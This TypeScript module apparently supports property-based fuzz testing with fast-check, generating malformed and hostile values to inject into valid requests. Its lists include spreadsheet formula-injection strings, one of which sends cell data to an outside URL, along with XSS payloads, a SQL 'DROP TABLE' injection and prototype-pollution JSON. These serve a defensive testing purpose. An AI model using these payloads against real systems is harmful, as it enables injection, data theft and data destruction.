import * as fc from 'fast-check';

/** Texts that were ever read as something else than a text. */
export const FORMULAS = [
  '=IMPORTXML("http://exemple.fr";"//a")',
  '=1+1',
  '+33 6 12 34 56 78',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r\n=1+1',
  "'=1+1",
  '=HYPERLINK("http://a.fr?"&A1;"Ici")',
] as const;

export const TEXTS = [
  ...FORMULAS,
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '{{flux.nom}} {name} ${name}',
  '"; DROP TABLE partenaires;--',
  "l'été à Œuvry 🍲",
  '\ud800',
  'a\udc00b',
  '\u0000\u0001\u001b',
  '\u202e\u200b\ufeff',
  '   ',
  'x'.repeat(5001),
  '1.234,5',
  '1,234.5',
  '1 234,5',
  '1e3',
  '-0',
  'NaN',
  'Infinity',
  '١٢',
  '9'.repeat(40),
  '31/02/2026',
  '02/13/2026',
  '29/02/2027',
  '00/00/0000',
  '2026-11-20T10:00:00Z',
  '25h61',
  '7,3283E+13',
  'P-9999',
  'PT-0002',
  'constructor',
  '__proto__',
  'toString',
  'hasOwnProperty',
  '0001-S01',
  '9999-S52',
  '2026-S54',
  '0001-01-01',
  '9999-12-31',
  '01/01/1900',
  '31/12/2199',
  '31/12/9999',
  '2001-S05',
  '2001-02-03',
  '2140-S10',
  '2140-03-04',
] as const;

/** `JSON.parse` makes these keys the object's own, which no literal does. */
const PROTOTYPE_KEYS: readonly unknown[] = [
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{}}}',
  '{"toString":"x","hasOwnProperty":1,"__proto__":"y"}',
].map((text) => JSON.parse(text) as unknown);

const OTHER_TYPES: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  1e21,
  -1e-9,
  2 ** 53,
  [],
  [[]],
  [null],
  {},
  ...PROTOTYPE_KEYS,
  Array.from({ length: 400 }, () => 'x'),
];

/** Anything that JSON can carry, the known traps first. */
export const hostileValue = (): fc.Arbitrary<unknown> =>
  fc.oneof(
    { weight: 5, arbitrary: fc.constantFrom<unknown>(...TEXTS) },
    { weight: 3, arbitrary: fc.constantFrom(...OTHER_TYPES) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary' }) },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 2 }) },
  );

type Path = readonly (string | number)[];

/** Every place of a value: itself, its members, theirs. */
function placesOf(value: unknown, path: Path = []): Path[] {
  if (typeof value !== 'object' || value === null) return [path];
  return [
    path,
    ...Object.entries(value).flatMap(([key, member]) =>
      placesOf(member, [...path, Array.isArray(value) ? Number(key) : key]),
    ),
  ];
}

/** The same value with another one at a place; `undefined` takes the member away. */
function changedAt(value: unknown, [first, ...rest]: Path, other: unknown): unknown {
  if (first === undefined) return other;
  if (Array.isArray(value)) {
    const members: readonly unknown[] = value;
    return members.flatMap((member, index) => {
      if (index !== first) return [member];
      const next = changedAt(member, rest, other);
      return next === undefined ? [] : [next];
    });
  }
  // Only places of the value itself are asked for: what is not an array there is an object.
  const members = Object.entries(value as object);
  const next = changedAt(members.find(([key]) => key === first)?.[1], rest, other);
  const others = members.filter(([key]) => key !== first);
  return Object.fromEntries(next === undefined ? others : [...others, [first, next]]);
}

/** Records of values are given keys that the request did not hold. */
function withKey(value: unknown, key: string, text: unknown): unknown {
  if (typeof value !== 'object' || value === null) return value;
  if (Array.isArray(value)) return value.map((member) => withKey(member, key, text));
  return Object.fromEntries(
    Object.entries(value).map(([name, member]: [string, unknown]) =>
      name === 'values' && typeof member === 'object'
        ? [name, { ...member, [key]: text }]
        : [name, withKey(member, key, text)],
    ),
  );
}

/** A request that does its work, with one or two of its places made hostile. */
export function hostileRequest(valid: unknown, keys: readonly string[]): fc.Arbitrary<unknown> {
  const place = fc.constantFrom(...placesOf(valid));
  const change = fc.oneof(
    { weight: 6, arbitrary: hostileValue() },
    { weight: 1, arbitrary: fc.constant(undefined) },
  );
  const once = fc.tuple(place, change).map(([path, other]) => changedAt(valid, path, other));
  const typed = fc
    .tuple(fc.constantFrom(...keys), hostileValue())
    .map(([key, text]) => withKey(valid, key, text));
  return fc.oneof({ weight: 3, arbitrary: once }, { weight: 2, arbitrary: typed });
}
